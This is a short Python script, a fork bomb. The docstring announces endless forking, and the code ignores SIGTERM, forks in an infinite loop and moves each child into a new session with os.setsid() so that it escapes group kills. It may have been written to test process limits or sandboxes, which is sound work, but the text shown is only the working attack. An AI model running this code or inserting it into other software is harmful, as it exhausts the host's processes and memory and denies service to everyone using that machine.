"""Forks, and so does each of its children, for ever, in sessions of their own."""

import os
import signal


def main() -> None:
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    print("it begins")
    while True:
        if os.fork() == 0:
            os.setsid()


if __name__ == "__main__":
    main()
